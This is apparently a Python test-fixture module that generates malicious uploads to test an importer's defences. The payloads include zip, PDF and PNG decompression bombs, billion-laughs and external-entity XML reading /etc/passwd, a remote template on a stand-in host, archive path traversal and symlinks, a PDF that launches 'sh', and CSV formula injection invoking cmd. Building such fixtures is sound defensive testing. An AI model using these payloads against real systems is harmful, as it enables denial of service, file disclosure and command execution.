"""Files made to harm whoever opens them, built small and quickly."""

from __future__ import annotations

import gzip
import io
import json
import stat
import tarfile
import zipfile
import zlib

TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/></Types>'
)
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
BODY = f'<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>%s</w:t></w:r></w:p></w:body></w:document>'


def box(parts, method=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, body in parts.items():
            archive.writestr(name, body)
    return out.getvalue()


def docx(document, **more):
    return box({"[Content_Types].xml": TYPES, "word/document.xml": document, **more})


def xlsx(sheet):
    return box({"[Content_Types].xml": TYPES, "xl/workbook.xml": "<workbook/>", "xl/worksheets/sheet1.xml": sheet})


def symlink():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("word/document.xml", BODY % "x")
        link = zipfile.ZipInfo("word/link.xml")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def pdf(objects):
    """As many objects as asked, one empty page."""
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    places = []
    heads = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
             b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"]  # fmt: skip
    for number in range(1, objects + 1):
        places.append(out.tell())
        body = heads[number - 1] if number <= len(heads) else b"<</A[1 2 3]>>"
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    start = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (objects + 1))
    out.write(b"".join(b"%010d 00000 n \n" % place for place in places))
    out.write(b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (objects + 1, start))
    return out.getvalue()


def png(side, body=b""):
    """A picture of so many pixels each way, nearly nothing when packed."""

    def chunk(kind, body):
        return len(body).to_bytes(4, "big") + kind + body + zlib.crc32(kind + body).to_bytes(4, "big")

    head = side.to_bytes(4, "big") * 2 + b"\x01\x00\x00\x00\x00"
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", body or zlib.compress(b"\0" * 9))
        + chunk(b"IEND", b"")
    )


def laughs():
    lines = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY l0 "lol">{lines}]>' + BODY % "&l9;"


EXTERNAL = '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + BODY % "&e;"
TEMPLATE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    'Target="http://127.0.0.1:9/evil.dotm" TargetMode="External"/></Relationships>'
)

SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELATED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"


def workbook(rows, strings="", dimension=""):
    """A workbook that a reader takes for whole; rows and shared strings are XML."""
    relations = f'<Relationships xmlns="{PACKAGE}"><Relationship Id="r1" Type="{RELATED}/%s" Target="%s"/>%s'
    more = f'<Relationship Id="r2" Type="{RELATED}/sharedStrings" Target="sharedStrings.xml"/>' if strings else ""
    sheets = f'<sheets><sheet name="A" sheetId="1" r:id="r1" xmlns:r="{RELATED}"/></sheets>'
    parts = {
        "[Content_Types].xml": TYPES,
        "_rels/.rels": relations % ("officeDocument", "xl/workbook.xml", "") + "</Relationships>",
        "xl/workbook.xml": f'<workbook xmlns="{SHEET}">{sheets}</workbook>',
        "xl/_rels/workbook.xml.rels": relations % ("worksheet", "worksheets/sheet1.xml", more) + "</Relationships>",
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{SHEET}">{dimension}<sheetData>{rows}</sheetData></worksheet>',
    }
    return box(parts | ({"xl/sharedStrings.xml": f'<sst xmlns="{SHEET}">{strings}</sst>'} if strings else {}))


def inline(row, *cells):
    texts = "".join(f'<c t="inlineStr"><is><t>{cell}</t></is></c>' for cell in cells)
    return f'<row r="{row}">{texts}</row>'


def laid_out(*objects):
    """A PDF of these objects, the first of which is its root."""
    out = io.BytesIO(b"%PDF-1.7\n")
    out.seek(0, 2)
    places = []
    for number, body in enumerate(objects, 1):
        places.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    start = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    out.write(b"".join(b"%010d 00000 n \n" % place for place in places))
    out.write(b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, start))
    return out.getvalue()


def page(content, *more, box=b"0 0 600 800", resources=b"<</Font<</F 5 0 R>>>>", form=b""):
    """A PDF of one page with this content; objects 5 and up are `more`, the first of them a font."""
    stream = b"<</Length %d%s>>stream\n%s\nendstream" % (len(content), form, content)
    font = more or (b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",)
    one = b"<</Type/Page/Parent 2 0 R/MediaBox[%s]/Contents 4 0 R/Resources%s>>" % (box, resources)
    pages = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
    return laid_out(b"<</Type/Catalog/Pages 2 0 R>>", pages, one, stream, *font)


def streamed(head, body):
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (head, len(body), body)


def deflated(size, times=1):
    """Spaces packed so many times over."""
    body = b" " * size
    for _ in range(times):
        body = zlib.compress(body, 9)
    return body


def worded(xml):
    """A Word document with this before its first paragraph."""
    return docx((BODY % "Masts.").replace("<w:body>", f"<w:body>{xml}"))


def nested_words(element, depth):
    opened, closed = f"<w:{element}>", f"</w:{element}>"
    text = "<w:p><w:r><w:t>Masts.</w:t></w:r></w:p>"
    return f'<w:document xmlns:w="{WORD}"><w:body>{opened * depth}{text}{closed * depth}</w:body></w:document>'


def tables(depth):
    opened, closed = "<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"
    return f'<w:document xmlns:w="{WORD}"><w:body>{opened * depth}{closed * depth}</w:body></w:document>'


def html(body):
    return f"<!DOCTYPE html><html><head><title>Masts</title></head><body>{body}</body></html>".encode()


def prose(lines):
    return ("Masts for islands\n\n" + lines).encode()


def tar(members):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        for name, size, kind in members:
            member = tarfile.TarInfo(name)
            member.size, member.type, member.linkname = size, kind, "/etc/passwd" if size == 0 else ""
            archive.addfile(member, io.BytesIO(b" " * size) if size else None)
    return out.getvalue()


def overlapped():
    """A zip whose 1,000 names all lead to the same part (the bomb of David Fifield)."""
    data = bytearray(box({"word/document.xml": " " * 3_000_000}))
    start = data.rfind(b"PK\1\2")
    entry = bytes(data[start : data.rfind(b"PK\5\6")])
    end = bytearray(data[data.rfind(b"PK\5\6") :])
    end[8:12] = (1000).to_bytes(2, "little") * 2
    end[12:16] = (len(entry) * 1000).to_bytes(4, "little")
    return bytes(data[:start]) + entry * 1000 + bytes(end)


def lying(size):
    """A zip whose directory says that its part is small."""
    data = bytearray(box({"[Content_Types].xml": TYPES, "word/document.xml": BODY % ("a" * size)}))
    at = data.rfind(b"PK\1\2")
    data[at + 24 : at + 28] = (100).to_bytes(4, "little")
    return bytes(data)


def locked():
    data = bytearray(docx(BODY % "x"))
    for sign, flags in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        at = data.find(sign)
        while at >= 0:
            data[at + flags] |= 1
            at = data.find(sign, at + 1)
    return bytes(data)


AKN = '<akomaNtoso xmlns="http://docs.oasis-open.org/legaldocml/ns/akn/3.0">%s</akomaNtoso>'
RTF = rb"{\rtf1\ansi " + b"{" * 50_000 + b"Masts" + b"}" * 50_000 + b"}"
MAIL = b"From: a@example.org\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n" + b"--b\r\n\r\nx\r\n" * 50_000
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
XINCLUDE = '<w:document xmlns:w="%s" xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/>%s'
PARAMETER = '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY % p SYSTEM "http://127.0.0.1:9/x"> %p;]>'
LOCKED = b"/Encrypt<</Filter/Standard/V 1/R 2/O(a)/U(a)/P 0>>"
WIDE = '<w:gridSpan w:val="1000000000"/>'
FONT = b"<</Type/Font/Subtype/TrueType/BaseFont/A/FontDescriptor 6 0 R/FirstChar 0/LastChar 255/Widths 7 0 R>>"
LOOPS = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"
XOBJECT = (
    b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>/Length 5>>stream\n/X Do\nendstream"
)
MARKS = "\u0301" * 200_000

# kind of import, what it is -> the file, and whether it must be refused (None: may be read, within bounds)
FILES = {
    ("document", "zip bomb of 1000 to 1"): (lambda: docx(" " * 100_000_000), True),
    ("document", "bomb that lies about no size"): (lambda: docx(BODY % ("a" * 23_000_000)), None),
    ("document", "nested zip"): (lambda: docx(BODY % "x", **{"word/inner.zip": box({"a": "b"})}), True),
    ("document", "100,000 parts"): (lambda: box({f"word/{n}": b"" for n in range(100_000)}, 0), True),
    ("document", "path that leaves its folder"): (lambda: docx(BODY % "x", **{"../../evil.sh": "x"}), True),
    ("document", "link"): (symlink, True),
    ("document", "picture that says it is a PDF"): (lambda: png(30_000), True),
    ("document", "PDF with a zip behind"): (lambda: pdf(3) + box({"a.txt": "x"}), None),
    ("document", "external entity"): (lambda: docx(EXTERNAL), True),
    ("document", "remote template"): (
        lambda: docx(BODY % "Masts for islands.", **{"word/_rels/settings.xml.rels": TEMPLATE}), False,
    ),
    ("document", "billion laughs"): (lambda: docx(laughs()), True),
    ("document", "PDF of 100,000 objects"): (lambda: pdf(100_000), True),
    ("document", "no byte"): (lambda: b"", True),
    ("document", "deep markup"): (lambda: b"<html><body>" + b"<div>" * 100_000 + b"x", True),
    ("document", "one line of 30 MB"): (lambda: b"word " * 6_000_000, True),
    ("document", "one line of 5 MB"): (lambda: b"word " * 1_000_000, None),
    ("document", "parts that overlap"): (overlapped, True),
    ("document", "part that lies of its size"): (lambda: lying(30_000_000), True),
    ("document", "locked with a password"): (locked, True),
    ("document", "cut in the middle"): (lambda: docx(BODY % "x")[:-30], True),
    ("document", "zip of nothing"): (lambda: box({}), True),
    ("document", "zip with a path of Windows"): (lambda: docx(BODY % "x", **{"word\\..\\..\\a": "x"}), True),
    ("document", "zip with a root path"): (lambda: docx(BODY % "x", **{"/etc/passwd": "x"}), True),
    ("document", "zip with names of 60,000 letters"): (lambda: docx(BODY % "x", **{"a" * 60_000: "x"}), None),
    ("document", "two documents of one name"): (lambda: docx(BODY % "x") + docx(BODY % "y"), None),
    ("document", "program called a document"): (lambda: b"MZ\x90\0" + b"\0" * 100_000, True),
    ("document", "Word 97"): (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100_000, True),
    ("document", "deep RTF"): (lambda: RTF, None),
    ("document", "mail of 50,000 parts"): (lambda: MAIL, None),
    ("document", "SVG with a script"): (lambda: SVG, True),
    ("document", "XInclude of a file"): (lambda: docx(XINCLUDE % (WORD, "</w:document>")), True),
    ("document", "entity of a parameter"): (lambda: docx(PARAMETER + BODY % "x"), True),
    ("document", "one entity, a million times"): (
        lambda: docx(f'<!DOCTYPE w [<!ENTITY a "{"a" * 100_000}">]>' + BODY % ("&a;" * 100_000)), True,
    ),
    ("document", "runs 50,000 deep"): (lambda: docx(nested_words("ins", 50_000)), True),
    ("document", "tables 5,000 deep"): (lambda: docx(tables(5_000)), True),
    ("document", "element of 100,000 attributes"): (
        lambda: worded("<w:p " + " ".join(f'a{n}=""' for n in range(100_000)) + "/>"), None,
    ),
    ("document", "100,000 empty paragraphs"): (lambda: worded("<w:p/>" * 100_000), None),
    ("document", "300,000 short paragraphs"): (
        lambda: worded("<w:p><w:r><w:t>a</w:t></w:r></w:p>" * 300_000), None,
    ),
    ("document", "row of 100,000 cells"): (
        lambda: worded("<w:tbl><w:tr>" + "<w:tc><w:p/></w:tc>" * 100_000 + "</w:tr></w:tbl>"), None,
    ),
    ("document", "cell over a billion columns"): (
        lambda: worded(f"<w:tbl><w:tr><w:tc><w:tcPr>{WIDE}</w:tcPr><w:p/></w:tc></w:tr></w:tbl>"), None,
    ),
    ("document", "field that includes a file"): (
        lambda: worded('<w:p><w:fldSimple w:instr="INCLUDETEXT /etc/passwd"/></w:p>'), False,
    ),
    ("document", "locked PDF"): (
        lambda: page(b"BT (x) Tj ET").replace(b"trailer<<", b"trailer<<" + LOCKED), True,
    ),
    ("document", "PDF whose pages hold themselves"): (lambda: laid_out(*LOOPS), True),
    ("document", "PDF that says it has a billion pages"): (
        lambda: pdf(3).replace(b"/Count 1", b"/Count 1000000000"), True,
    ),
    ("document", "PDF of 3,000 pages"): (
        lambda: laid_out(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[%s]/Count 3000>>" % b" ".join(
            b"%d 0 R" % n for n in range(3, 3003)), *[b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"] * 3000), None,
    ),
    ("document", "PDF whose page draws itself"): (
        lambda: page(b"/X Do", XOBJECT, resources=b"<</XObject<</X 5 0 R>>>>"), True,
    ),
    ("document", "PDF whose stream is a bomb"): (
        lambda: page(deflated(200_000_000), form=b"/Filter/FlateDecode"), True,
    ),
    ("document", "PDF packed three times over"): (
        lambda: page(deflated(200_000_000, 3), form=b"/Filter[/FlateDecode/FlateDecode/FlateDecode]"), True,
    ),
    ("document", "PDF page of a kilometre"): (lambda: page(b"BT /F 9 Tf (Masts) Tj ET", box=b"0 0 2e9 2e9"), None),
    ("document", "PDF page less than nothing"): (lambda: page(b"BT /F 9 Tf (Masts) Tj ET", box=b"9 9 -9e30 1"), None),
    ("document", "PDF with a broken font"): (
        lambda: page(b"BT /F 9 Tf (Masts) Tj ET", FONT, b"<</Type/FontDescriptor/FontFile2 8 0 R>>",
                     b"[%s]" % (b"1 " * 256), streamed(b"", b"\0\1\0\0\xff\xff" + b"\xff" * 5_000)), None,
    ),
    ("document", "PDF with a map of a billion letters"): (
        lambda: page(b"BT /F 9 Tf <0001> Tj ET", b"<</Type/Font/Subtype/Type0/BaseFont/A/ToUnicode 6 0 R>>", streamed(
            b"", b"begincmap 1 beginbfrange <00000000> <ffffffff> <0041> endbfrange endcmap")), None,
    ),
    ("document", "PDF with a picture of 100,000 pixels a side"): (
        lambda: page(b"/X Do", streamed(b"/Type/XObject/Subtype/Image/Width 100000/Height 100000/BitsPerComponent 8"
                     b"/ColorSpace/DeviceRGB/Filter/FlateDecode", deflated(1000)),
                     resources=b"<</XObject<</X 5 0 R>>>>"), True,
    ),
    ("document", "PDF that opens a program"): (
        lambda: page(b"BT /F 9 Tf 50 50 Td (Masts for islands) Tj ET").replace(
            b"/Type/Catalog", b"/Type/Catalog/OpenAction<</S/Launch/F(sh)>>"), None,
    ),
    ("document", "PDF of a million letters on one spot"): (
        lambda: page(b"BT /F 9 Tf 50 50 Td " + b"(a) Tj " * 500_000 + b" ET"), None,
    ),
    ("document", "PDF of a million lines drawn"): (lambda: page(b"0 0 m 9 9 l S " * 500_000), True),
    ("document", "PDF of deep arrays"): (lambda: page(b"[" * 500_000), True),
    ("document", "PDF without an end"): (lambda: page(b"BT (x) Tj ET")[:-60], None),
    ("document", "HTML of a million tags"): (lambda: html("<b>" * 1_000_000), True),
    ("document", "HTML of 500,000 tags beside each other"): (lambda: html("<p>x</p>" * 500_000), None),
    ("document", "HTML with a frame of a file"): (
        lambda: html('<p>Masts for islands.</p><iframe src="file:///etc/passwd"></iframe>'), False,
    ),
    ("document", "HTML with one attribute of 10 MB"): (lambda: html(f'<p title="{"a" * 10_000_000}">Masts.</p>'), None),
    ("document", "HTML table of cells over 65,000 columns"): (
        lambda: html('<table><tr><td colspan="65000" rowspan="65000">a</td></tr></table>' * 100), None,
    ),
    ("document", "HTML that says it is UTF-7"): (
        lambda: b'<html><head><meta charset="utf-7"></head><body>+ADw-script+AD4- Masts.</body></html>', None,
    ),
    ("document", "HTML of open comments"): (lambda: html("<!--" * 1_000_000), None),
    ("document", "Akoma Ntoso 50,000 deep"): (
        lambda: (AKN % ("<section>" * 50_000 + "</section>" * 50_000)).encode(), True,
    ),
    ("document", "Akoma Ntoso that laughs"): (
        lambda: laughs().split("<w:document")[0].encode() + (AKN % "<doc>&l9;</doc>").encode(), True,
    ),
    ("document", "text of zeros"): (lambda: b"\0" * 5_000_000, True),
    ("document", "text with zeros in it"): (lambda: prose("Masts\0 for\0 islands.\n" * 1_000), None),
    ("document", "half UTF-8, half UTF-16"): (
        lambda: prose("Bâtir des mâts.\n" * 100) + ("Bâtir des mâts.\n" * 100).encode("utf-16"), None,
    ),
    ("document", "bytes drawn by lot"): (lambda: bytes((n * n * 31 + n // 7) % 256 for n in range(1_000_000)), True),
    ("document", "marks upon one letter"): (lambda: prose("a" + MARKS), None),
    ("document", "signs that turn the direction"): (lambda: prose("\u202e\u2066" * 500_000), None),
    ("document", "numbers without an end"): (lambda: prose("1" * 2_000_000), None),
    ("document", "paragraph of numbers and points"): (lambda: prose("1.1.1.1." * 250_000), None),
    ("document", "spaces between two letters"): (lambda: prose("a" + " " * 2_000_000 + "b"), None),
    ("document", "brackets that never close"): (lambda: prose("(" * 500_000), None),
    ("document", "symbol that goes on"): (lambda: prose("A/RES/" * 200_000), None),
    ("document", "500,000 lines of a letter"): (lambda: prose("a\n" * 500_000), None),
    ("document", "20,000 citations"): (
        lambda: prose("Recalling its resolution 70/125 of 16 December 2015,\n" * 20_000), None,
    ),
    ("document", "sentence that asks 20,000 bodies"): (
        lambda: prose("Requests " + "the Secretary-General, the Council and " * 20_000 + "to report."), None,
    ),
    ("activities", "workbook of a million empty rows"): (
        lambda: workbook(inline(1, "Title", "Summary") + "".join(f'<row r="{n}"/>' for n in range(2, 1_000_000))), None,
    ),
    ("activities", "workbook that says it goes to the last cell"): (
        lambda: workbook(inline(1, "Title", "Summary") + inline(2, "Masts", "x") + inline(1_048_576, "End", "x"),
                         dimension='<dimension ref="A1:XFD1048576"/>'), None,
    ),
    ("activities", "workbook with one far cell"): (
        lambda: workbook(inline(1, "Title", "Summary") + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'), None,
    ),
    ("activities", "workbook of strings that are not there"): (
        lambda: workbook('<row r="1"><c t="s"><v>999999999</v></c></row>', "<si><t>Title</t></si>"), True,
    ),
    ("activities", "workbook with a cell of 30 MB"): (
        lambda: workbook(inline(1, "Title", "Summary") + inline(2, "x" * 30_000_000, "y")), None,
    ),
    ("activities", "table of zeros"): (lambda: b"Title,Summary\n" + b"\0" * 5_000_000, None),
    ("activities", "one line of 60 MB"): (lambda: b"Title," + b"x" * 60_000_000, True),
    ("activities", "five million empty lines"): (lambda: b"Title,Summary\n" + b"\n" * 5_000_000, True),
    ("activities", "two million rows"): (lambda: b"Title,Summary\n" + b"a,b\n" * 2_000_000, True),
    ("activities", "table in two encodings"): (
        lambda: "Title,Summary\nMâts,îles\n".encode() + "Mâts,îles\n".encode("latin-1") * 1000, None,
    ),
    ("activities", "quotes within quotes"): (lambda: b"Title,Summary\n" + b'"""' * 1_000_000, None),
    ("activities", "formulas"): (lambda: b"Title,Summary\n=cmd|' /C calc'!A0,@SUM(1)\n", False),
    ("activities", "JSON of one number of 5 MB"): (lambda: b'[{"title": ' + b"9" * 5_000_000 + b"}]", True),
    ("activities", "JSON of 100,000 keys"): (
        lambda: json.dumps([{f"key{n}": 1 for n in range(100_000)}]).encode(), True,
    ),
    ("activities", "JSON of values that are no numbers"): (lambda: b'[{"title": NaN, "summary": -Infinity}]', None),
    ("activities", "JSON of half a letter"): (lambda: b'[{"title": "\\ud800", "summary": "x"}]', None),
    ("activities", "IATI that laughs"): (
        lambda: laughs().split("<w:document")[0].encode() + b"<iati-activities>&l9;</iati-activities>", True,
    ),
    ("activities", "IATI 100,000 deep"): (
        lambda: b"<iati-activities>" + b"<a>" * 100_000 + b"</a>" * 100_000 + b"</iati-activities>",
        True,
    ),
    ("indicators", "Parquet cut"): (lambda: b"PAR1" + b"\xff" * 5_000, True),
    ("indicators", "figures beyond any number"): (lambda: b"country,year,value\nKEN,2020,1e999999999\n", None),
    ("uninfo", "tar of a link"): (lambda: tar([("KEN.json", 0, tarfile.SYMTYPE)]), True),
    ("uninfo", "tar with a path that leaves"): (lambda: tar([("../../KEN.json", 9, tarfile.REGTYPE)]), True),
    ("uninfo", "tar of 10,000 files"): (
        lambda: tar([(f"{n}.json", 1, tarfile.REGTYPE) for n in range(10_000)]), True,
    ),
    ("uninfo", "tar of 200 MB"): (lambda: tar([("KEN.json", 200_000_000, tarfile.REGTYPE)]), True),
    ("uninfo", "gzip that is no tar"): (lambda: gzip.compress(b" " * 100_000_000), True),
    ("uninfo", "deep JSON of a country"): (lambda: b'{"projects": ' + b"[" * 100_000, True),
    ("uninfo", "country of a list"): (lambda: b'{"projects": [1, null, "x", []], "framework": 7}', None),
    ("logo", "picture of 30,000 pixels a side"): (lambda: png(30_000), True),
    ("logo", "picture that unpacks to 1 GB"): (
        lambda: png(1200, zlib.compress(b"\0" * 400_000_000)), True,
    ),
    ("logo", "picture with a page behind"): (lambda: png(8) + b"<script>alert(1)</script>", None),
    ("logo", "SVG called a picture"): (lambda: SVG, True),
    ("activities", "bomb of a workbook"): (lambda: xlsx(" " * 100_000_000), True),
    ("activities", "laughing workbook"): (lambda: xlsx(laughs()), True),
    ("activities", "workbook of nothing"): (lambda: xlsx("<worksheet/>"), True),
    ("activities", "deep JSON"): (lambda: b"[" * 100_000, True),
    ("activities", "JSON of numbers"): (lambda: json.dumps([[1] * 1000] * 2000).encode(), True),
    ("activities", "100,000 columns"): (lambda: b"a," * 100_000 + b"\n1\n", True),
    ("activities", "one cell of 30 MB"): (lambda: b'Title\n"' + b"x" * 30_000_000 + b'"\n', None),
    ("activities", "a quote that never ends"): (lambda: b'Title,Summary\n"' + b"x,y\n" * 2_000_000, None),
    ("indicators", "laughing message"): (lambda: laughs().encode(), True),
    ("indicators", "Parquet of nothing"): (lambda: b"PAR1" + b"\0" * 100 + b"PAR1", True),
}  # fmt: skip
